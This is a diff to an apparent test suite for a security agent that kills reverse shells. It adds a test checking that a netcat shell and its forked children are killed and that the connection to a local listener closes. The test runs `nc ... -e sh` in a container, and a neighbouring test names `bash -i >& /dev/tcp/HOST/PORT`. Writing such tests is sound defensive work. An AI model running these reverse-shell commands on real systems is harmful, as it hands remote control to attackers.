@@ -96,6 +96,23 @@ describe('action: kill from user space on a reverse shell', { skip }, () => {
     t.diagnostic(`the listener received output in ${leaked.length} of ${runs} runs`);
   });
 
+  test('what the shell forked before its kill dies with it: the connection closes, not held open by a child', async (t) => {
+    const c = await createCatcher(200 + (process.pid % 50), 'while :; do echo tick; sleep 0.05; done &\necho forked\n');
+    try {
+      const name = uniqueName('vigil-rshell-fork');
+      // The container lives on after nc: a surviving child would keep the socket open until the catcher gives up (5 s).
+      const out = runContainer(name, TEST_IMAGES.busybox, `nc ${c.address} ${c.port} -e sh; echo "nc exit $?"; i=0; while [ $i -lt 60 ]; do sleep 0.1; i=$((i+1)); done`);
+      assert.match(out, /nc exit 137/, out);
+      const [caught] = await c.waitFor(1);
+      assert.ok(caught && caught.openMs < 5000, `the connection stayed open ${caught?.openMs} ms: a child of the shell held it`);
+      const es = await eventsUntil(agent, name, (x) => x.some((e) => e.kind === 'response'));
+      const acted = es.find((e) => e.kind === 'response');
+      t.diagnostic(`connection closed after ${caught?.openMs} ms; children killed with the shell: ${acted?.response?.['descendants'] ?? 0}; listener received ${JSON.stringify(caught?.got)}`);
+    } finally {
+      c.close();
+    }
+  });
+
   test('bash -i >& /dev/tcp/HOST/PORT: the shell dies at its connect or its exec', async (t) => {
     const name = uniqueName('vigil-rshell-bash');
     const before = catcher.catches().length;
